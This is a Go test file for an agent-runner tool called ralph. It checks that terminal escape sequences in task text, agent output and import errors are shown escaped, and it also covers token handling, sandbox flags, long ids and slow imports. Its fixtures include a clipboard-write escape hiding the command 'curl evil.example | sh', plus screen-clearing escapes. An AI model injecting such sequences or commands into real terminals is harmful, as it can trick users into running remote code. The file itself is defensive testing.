package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/ralph-dev/ralph/claude"
	"github.com/ralph-dev/ralph/claude/claudetest"
	"github.com/ralph-dev/ralph/dag"
	"github.com/ralph-dev/ralph/dag/postgres/pgtest"
	"github.com/ralph-dev/ralph/loop"
)

// Attacks on the terminal and the hand-over to the agent
// (ARCHITECTURE.md §7.7 and "Honest hand-over to the agent"), through the ralph
// binary: text carrying escape sequences (a screen clear, an OSC 52
// clipboard write, a window title, a C1 CSI) in task titles, descriptions,
// logs, the agent's words and tool output, and import errors; task ids
// that cannot be git refs; ANTHROPIC_AUTH_TOKEN; IS_SANDBOX.

// The escape sequences of the attacks, and how ralph shows them.
const (
	escClear     = "\x1b[2J\x1b[3J\x1b[H\x1bc"
	escClearShow = `\x1b[2J\x1b[3J\x1b[H\x1bc`
	escClip      = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	escClipShow  = `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a`
	escTitle     = "\x1b]0;owned\x1b\\"
	escC1        = "\u009b31m"
	escC1Show    = `\u009b31m`
)

// noRawControls fails the test when out (what a command printed on what
// stream) holds a control character other than newline and tab, or bytes
// that are not UTF-8: what a terminal would obey.
func noRawControls(t *testing.T, what, out string) {
	t.Helper()
	if shown := claude.EscapeControls(out); shown != out {
		i := 0
		for i < len(out) && i < len(shown) && out[i] == shown[i] {
			i++
		}
		t.Errorf("%s: a control character reaches the terminal at byte %d: %q", what, i, out[max(0, i-60):min(len(out), i+60)])
	}
}

// TestAttackTextTaskText: a task whose title, description and history
// carry escape sequences is shown escaped by every command that prints it
// — list, show, peek (text and JSON), status, plan-status, export — and
// its JSON keeps the text exactly (export imports back unchanged).
func TestAttackTextTaskText(t *testing.T) {
	e := newProject(t, nil)
	title := "Fix login " + escClear + " then " + escClip + " and " + escTitle + " " + escC1 + " \x7f end"
	desc := "line one\r\nline two " + escClip + "\n\tindented " + escClear
	reason := "gave up " + escClear + escClip
	id := strings.TrimSpace(e.ok("task", "add", title, "-d", desc))
	failed := strings.TrimSpace(e.ok("task", "add", "Other "+escClip, "-d", desc))
	e.ok("task", "claim", failed, "--agent", "agent-0000beef")
	e.ok("task", "fail", failed, "--reason", reason, "--agent", "agent-0000beef")

	for _, args := range [][]string{
		{"task", "list"}, {"task", "show", id}, {"task", "show", failed}, {"task", "peek"},
		{"status"}, {"task", "plan-status"},
	} {
		r := e.run(args...)
		what := "ralph " + strings.Join(args, " ")
		if r.code != 0 {
			t.Fatalf("%s: exit %d: %s", what, r.code, r.stderr)
		}
		noRawControls(t, what+" (stdout)", r.stdout)
		noRawControls(t, what+" (stderr)", r.stderr)
		if args[0] == "task" && args[1] != "plan-status" && !strings.Contains(r.stdout, escClipShow) {
			t.Errorf("%s does not show the clipboard write escaped:\n%s", what, r.stdout)
		}
	}
	show := e.run("task", "show", id).stdout
	for _, want := range []string{escClearShow, escClipShow, escC1Show, `\u007f`, `line one\r`, "\n\tindented"} {
		if !strings.Contains(show, want) {
			t.Errorf("task show does not show %q:\n%s", want, show)
		}
	}
	if s := e.run("task", "show", failed).stdout; !strings.Contains(s, "gave up "+escClearShow+escClipShow) {
		t.Errorf("the failure reason is not shown escaped:\n%s", s)
	}

	// JSON: no control character either, and the text exactly as given.
	for _, args := range [][]string{{"task", "show", id, "--json"}, {"task", "list", "--json"}, {"task", "peek", "--json"}, {"status", "--json"}} {
		r := e.run(args...)
		noRawControls(t, "ralph "+strings.Join(args, " "), r.stdout)
		if !json.Valid([]byte(r.stdout)) {
			t.Errorf("ralph %s: not valid JSON:\n%s", strings.Join(args, " "), r.stdout)
		}
	}
	if got := e.show(id); got.Title != title || got.Description != desc {
		t.Errorf("task show --json gives title %q, description %q: not the text as given", got.Title, got.Description)
	}
	var list []taskJSON
	if err := json.Unmarshal([]byte(e.ok("task", "list", "--json")), &list); err != nil || len(list) != 2 || list[0].Title != title {
		t.Errorf("task list --json: %v, %+v", err, list)
	}

	// Export, then import into another project: the same text.
	export := e.run("task", "export")
	noRawControls(t, "ralph task export", export.stdout)
	other := newProject(t, nil)
	file := filepath.Join(t.TempDir(), "plan.jsonl")
	if err := os.WriteFile(file, []byte(export.stdout), 0o644); err != nil {
		t.Fatal(err)
	}
	other.ok("task", "import", file)
	if got := other.show(id); got.Title != title || got.Description != desc {
		t.Errorf("after export and import: title %q, description %q", got.Title, got.Description)
	}
}

// TestAttackTextAgentOutput: the agent's final text and a failed tool's
// output carry escape sequences, and so does the task's title; the build
// view shows all of it escaped, the task is done all the same (its sigil
// is read from the text as it was), and status shows the run escaped.
func TestAttackTextAgentOutput(t *testing.T) {
	agent, _ := fakeAgentPath(t, agentStep{
		Sh:   `printf 'tool says \033[2J\033]52;c;aGk=\007\n'; exit 3`,
		Text: "Done " + escClear + escClip + " " + escC1 + "\n<task-done>{task}</task-done>",
	})
	e := newProject(t, nil)
	id := strings.TrimSpace(e.ok("task", "add", "Title "+escClip))
	r := e.run("build", "--claude", agent, "--once")
	if r.code != 0 {
		t.Fatalf("build: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	noRawControls(t, "build (stdout)", r.stdout)
	noRawControls(t, "build (stderr)", r.stderr)
	for _, want := range []string{"Done " + escClearShow + escClipShow, "Title " + escClipShow, `tool says \x1b[2J\x1b]52;c;aGk=\a`} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("the build view does not show %q:\n%s", want, r.stdout)
		}
	}
	if got := e.show(id).Status; got != "done" {
		t.Errorf("%s is %s, want done", id, got)
	}
	st := e.run("status")
	noRawControls(t, "status", st.stdout)
}

// TestAttackTextImportErrors: an import file whose bad line carries escape
// sequences is refused with the error shown escaped, and nothing is added.
func TestAttackTextImportErrors(t *testing.T) {
	e := newProject(t, nil)
	dir := t.TempDir()
	files := map[string]string{
		"blocker.jsonl": `{"id":"a","title":"fine"}` + "\n" + `{"id":"b","title":"t","blocked_by":["x\u001b[2J\u001b]52;c;aGk=\u0007"]}` + "\n",
		"status.jsonl":  `{"id":"a","title":"t","status":"done\u001b[2J"}` + "\n",
		"marker.md":     "- [ ] first\n- [ ] second <!-- id: x" + escClear + " -->\n",
		"parent.jsonl":  `{"id":"a","title":"t","parent":"p` + "\\u009b" + `31m"}` + "\n",
	}
	for name, content := range files {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, name)
			if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
			r := e.run("task", "import", path)
			if r.code != 1 || !strings.HasPrefix(r.stderr, "ralph: ") || strings.Count(r.stderr, "\n") != 1 {
				t.Fatalf("import: exit %d, stderr %q; want exit 1 and one line", r.code, r.stderr)
			}
			noRawControls(t, "import error", r.stderr)
			noRawControls(t, "import stdout", r.stdout)
			if !strings.Contains(r.stderr, `\x1b[2J`) && !strings.Contains(r.stderr, `\u009b`) {
				t.Errorf("the error does not show the sequence escaped: %s", r.stderr)
			}
			if list := e.ok("task", "list"); list != "" {
				t.Errorf("the import added tasks:\n%s", list)
			}
		})
	}
}

// TestAttackTextBoard: the board of a parallel build on a terminal writes
// escape sequences of its own (cursor up, erase); what it shows of tasks,
// the agents' events and the loop's messages is escaped, so that none of
// them can erase or rewrite the screen.
func TestAttackTextBoard(t *testing.T) {
	var out bytes.Buffer
	now := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
	b := newBoard(&out, func() time.Time { return now }, func(string) string { return "120" })
	task := loop.Task{ID: "t-1", Title: "Title " + escClear + escClip}
	b.Observe(loop.Note{Kind: loop.NoteIterationStart, Worker: "w1", Task: task, Model: "sonnet" + escC1, At: now})
	for _, ev := range []loop.Event{
		{Kind: loop.EventText, Text: "says " + escClip},
		{Kind: loop.EventToolUse, Tool: "Bash", Input: "echo " + escClear},
		{Kind: loop.EventToolResult, IsError: true, Text: "failed " + escTitle},
	} {
		now = now.Add(time.Second)
		b.Observe(loop.Note{Kind: loop.NoteAgentEvent, Worker: "w1", AgentEvent: ev})
	}
	b.Observe(loop.Note{Kind: loop.NoteNotice, Worker: "w1", Message: "notice " + escClip})
	b.Observe(loop.Note{Kind: loop.NoteIterationEnd, Worker: "w1" + escClear, Iteration: 1, Task: task, Status: loop.IterTaskFailed, Message: "why " + escClip})
	own := regexp.MustCompile(`\x1b\[(\d+A|J|K)`)
	rest := own.ReplaceAllString(out.String(), "")
	noRawControls(t, "board", rest)
	for _, want := range []string{escClipShow, escClearShow, escC1Show} {
		if !strings.Contains(rest, want) {
			t.Errorf("the board does not show %q:\n%s", want, rest)
		}
	}
}

// TestAttackTextLongID: a task id that cannot name a git branch (300
// bytes: ralph/task/<id> would be a file name too long for any file
// system, and every --workers build would stop with exit 5) is refused
// wherever ids come in — task add --id, JSON Lines, beads, a markdown
// marker — on SQLite and on PostgreSQL, with a clear one-line message and
// nothing changed. The longest id that is allowed, all of it %-encoded in
// a ref, builds with workers.
func TestAttackTextLongID(t *testing.T) {
	long := strings.Repeat("x", 300)
	dir := t.TempDir()
	write := func(name, content string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	jsonl := write("plan.jsonl", `{"id":"a","title":"first"}`+"\n"+`{"id":"`+long+`","title":"second"}`+"\n"+`{"id":"c","title":"third"}`+"\n")
	beads := write("beads.jsonl", `{"id":"bd-1","title":"first","status":"open","issue_type":"task"}`+"\n"+`{"id":"bd-`+long+`","title":"second","status":"open","issue_type":"task"}`+"\n")
	md := write("plan.md", "- [ ] first\n- [ ] second <!-- id: "+long+" -->\n")
	says := func(id string) string {
		return fmt.Sprintf(`task id %q is %d bytes long: ids are at most 80 bytes (an id names git branches, ralph/task/<id>)`, id[:32]+"…", len(id))
	}

	for _, store := range []string{"sqlite", "postgres"} {
		t.Run(store, func(t *testing.T) {
			var initArgs []string
			if store == "postgres" {
				initArgs = []string{"--db", pgtest.URL(t), "--plan", "long-ids"}
			}
			e := newProject(t, nil, initArgs...)
			e.ok("task", "add", "Already there", "--id", "old")
			before := e.ok("task", "list", "--json")
			for _, c := range []struct {
				name string
				args []string
				want string
			}{
				{"task add --id", []string{"task", "add", "Too long", "--id", long}, "ralph: " + says(long)},
				{"JSON Lines", []string{"task", "import", jsonl}, "ralph: " + jsonl + ": line 2: " + says(long)},
				{"beads", []string{"task", "import", beads}, "ralph: " + beads + ": line 2: " + says("bd-"+long)},
				{"markdown marker", []string{"task", "import", md}, "ralph: " + md + ": line 2: " + says(long)},
			} {
				r := e.run(c.args...)
				if r.code != 1 || !strings.Contains(r.stderr, c.want) || strings.Count(r.stderr, "\n") != 1 {
					t.Errorf("%s: exit %d, stderr %q; want exit 1 and one line with %q", c.name, r.code, r.stderr, c.want)
				}
				if after := e.ok("task", "list", "--json"); after != before {
					t.Errorf("%s changed the plan:\n%s", c.name, after)
				}
			}
		})
	}

	t.Run("the longest id builds with workers", func(t *testing.T) {
		if _, err := exec.LookPath("git"); err != nil {
			t.Skip("git is not installed")
		}
		id := strings.Repeat("é", dag.MaxIDBytes/2) // every byte %XX in a ref: 240 bytes
		agent, _ := fakeAgentPath(t, agentStep{Sh: "echo work > work.txt", Text: done})
		e := newProject(t, []string{"GIT_AUTHOR_NAME=Dev", "GIT_AUTHOR_EMAIL=dev@example.com", "GIT_COMMITTER_NAME=Dev", "GIT_COMMITTER_EMAIL=dev@example.com"})
		commitProject(t, e.dir)
		e.ok("task", "add", "The longest id", "--id", id)
		if r := e.run("task", "add", "One byte more", "--id", id+"x"); r.code != 1 {
			t.Errorf("an id of %d bytes: exit %d, want refused", len(id)+1, r.code)
		}
		r := e.run("build", "--claude", agent, "--workers", "1")
		if r.code != 0 {
			t.Fatalf("build --workers 1: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
		}
		if got := e.show(id).Status; got != "done" {
			t.Errorf("the task is %s, want done", got)
		}
		out, err := exec.Command("git", "-C", e.dir, "branch", "--list", "ralph/task/*").CombinedOutput()
		if err != nil || !strings.Contains(string(out), "ralph/task/"+strings.Repeat("%C3%A9", dag.MaxIDBytes/2)) {
			t.Errorf("no branch for the task: %v\n%s", err, out)
		}
	})
}

// agentEnvFile is a stand-in agent step that writes its whole environment
// to env.txt in its working directory, and reports its task done.
var agentEnvFile = agentStep{Sh: `env > "$PWD/agent-env.txt"`, Text: done}

// readAgentEnv reads what agentEnvFile wrote, as a map.
func readAgentEnv(t *testing.T, dir string) map[string]string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "agent-env.txt"))
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{}
	for _, l := range strings.Split(string(b), "\n") {
		if k, v, ok := strings.Cut(l, "="); ok {
			env[k] = v
		}
	}
	return env
}

// TestAttackTextAuthToken: ANTHROPIC_AUTH_TOKEN, a bearer token billed per
// token like the API key, never reaches the agent unless --use-api-key,
// and the notice names it.
func TestAttackTextAuthToken(t *testing.T) {
	for _, use := range []bool{false, true} {
		t.Run(fmt.Sprintf("use-api-key=%v", use), func(t *testing.T) {
			agent, _ := fakeAgentPath(t, agentEnvFile)
			e := newProject(t, []string{"ANTHROPIC_AUTH_TOKEN=tok-secret", "ANTHROPIC_API_KEY=sk-secret"})
			e.ok("task", "add", "Do it")
			args := []string{"build", "--claude", agent, "--once"}
			if use {
				args = append(args, "--use-api-key")
			}
			r := e.run(args...)
			if r.code != 0 {
				t.Fatalf("build: exit %d\n%s", r.code, r.stderr)
			}
			env := readAgentEnv(t, e.dir)
			for _, k := range []string{"ANTHROPIC_AUTH_TOKEN", "ANTHROPIC_API_KEY"} {
				if v, ok := env[k]; ok != use {
					t.Errorf("%s in the agent's environment: %v (%q), want %v", k, ok, v, use)
				}
			}
			if !strings.Contains(r.stderr, "ANTHROPIC_API_KEY and ANTHROPIC_AUTH_TOKEN") {
				t.Errorf("the notice does not name both: %q", r.stderr)
			}
		})
	}
}

// TestAttackTextIsSandbox: IS_SANDBOX=1, which lets Claude Code skip
// permissions as root, is set only when the agent runs in ralph's sandbox
// (or the user's own environment has it).
func TestAttackTextIsSandbox(t *testing.T) {
	tests := []struct {
		name    string
		userEnv []string
		args    []string
		want    string // "" for unset
	}{
		{"without --sandbox", nil, nil, ""},
		{"the user's own IS_SANDBOX", []string{"IS_SANDBOX=1"}, nil, "1"},
		{"with --sandbox", nil, []string{"--sandbox"}, "1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if len(tt.args) > 0 {
				needBwrap(t)
			}
			agent, _ := fakeAgentPath(t, agentEnvFile)
			e := newProject(t, tt.userEnv)
			if tt.userEnv == nil {
				e.env = withoutEnv(e.env, "IS_SANDBOX") // this machine's own
			}
			e.ok("task", "add", "Do it")
			r := e.run(append([]string{"build", "--claude", agent, "--once"}, tt.args...)...)
			if r.code != 0 {
				t.Fatalf("build: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
			}
			if got, ok := readAgentEnv(t, e.dir)["IS_SANDBOX"]; got != tt.want || ok != (tt.want != "") {
				t.Errorf("IS_SANDBOX in the agent's environment: %q (set %v), want %q", got, ok, tt.want)
			}
		})
	}
}

// TestAttackTextRootRefusal: the real Claude Code, as root, without
// --sandbox and without IS_SANDBOX=1 anywhere, refuses to skip
// permissions; the build stops at once (exit 4, one attempt, nothing sent
// to the API) saying what to do, and the task is pending again. With
// --sandbox the same build runs: ralph tells Claude Code it is in one.
func TestAttackTextRootRefusal(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("Claude Code refuses only root")
	}
	api := claudetest.NewAPI(t, func(r claudetest.Request) claudetest.Reply {
		return claudetest.Text("Done. <task-done>t-1</task-done>")
	})
	env := append(api.Env(t.TempDir()), "RALPH_CLAUDE="+claudetest.Binary(t)) // no claudetest.IsSandbox
	e := newProject(t, env)
	e.env = withoutEnv(e.env, "IS_SANDBOX")
	e.ok("task", "add", "Do it")
	r := e.run("build", "--use-api-key")
	if r.code != 4 {
		t.Fatalf("build: exit %d, want 4\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
	}
	for _, want := range []string{"refuses to skip permissions as root", "--sandbox", "other than root", "IS_SANDBOX=1"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the message does not say %q:\n%s", want, r.stderr)
		}
	}
	if n := strings.Count(r.stdout, "== iteration"); n != 2 { // its start and its end
		t.Errorf("%d iteration lines, want one iteration (no retry):\n%s", n, r.stdout)
	}
	if n := len(api.Requests()); n != 0 {
		t.Errorf("%d requests reached the API", n)
	}
	if got := e.show("t-1").Status; got != "pending" {
		t.Errorf("t-1 is %s, want pending", got)
	}

	t.Run("with --sandbox", func(t *testing.T) {
		needBwrap(t)
		r := e.run("build", "--use-api-key", "--sandbox")
		if r.code != 0 || e.show("t-1").Status != "done" {
			t.Fatalf("build --sandbox: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
		}
	})
}

// TestAttackTextNestedImport: `ralph task import` of 800 KB markdown
// checklists nested in the shapes that once took the reader quadratic time
// (over two minutes each, issue 20 item 15): a line opening 100,000 list
// items followed by blank lines, and a staircase of boxes each one level
// deeper. Both import, and in bounded time: the deadline is far above
// what a linear reader needs on any machine and far below what the
// quadratic one took (the figures are BenchmarkChecklistNested's).
func TestAttackTextNestedImport(t *testing.T) {
	var staircase strings.Builder
	n := 0
	for staircase.Len() < 800<<10 {
		fmt.Fprintf(&staircase, "%s- [ ] step %d\n\n", strings.Repeat("  ", n), n)
		n++
	}
	for _, c := range []struct {
		name, doc string
		tasks     int
	}{
		{"markers", strings.Repeat("- ", 100<<10) + "[ ] the deepest box\n" + strings.Repeat("\n", 600<<10), 1},
		{"staircase", staircase.String(), n},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newProject(t, nil)
			file := filepath.Join(t.TempDir(), "plan.md")
			if err := os.WriteFile(file, []byte(c.doc), 0o644); err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
			defer cancel()
			cmd := exec.CommandContext(ctx, e.bin, "task", "import", file)
			cmd.Dir, cmd.Env = e.dir, e.env
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("task import of %d bytes: %v (%v)\n%.2000s", len(c.doc), err, ctx.Err(), out)
			}
			var tasks []json.RawMessage
			if err := json.Unmarshal([]byte(e.ok("task", "list", "--json")), &tasks); err != nil {
				t.Fatal(err)
			}
			if len(tasks) != c.tasks {
				t.Errorf("%d tasks imported, want %d", len(tasks), c.tasks)
			}
		})
	}
}
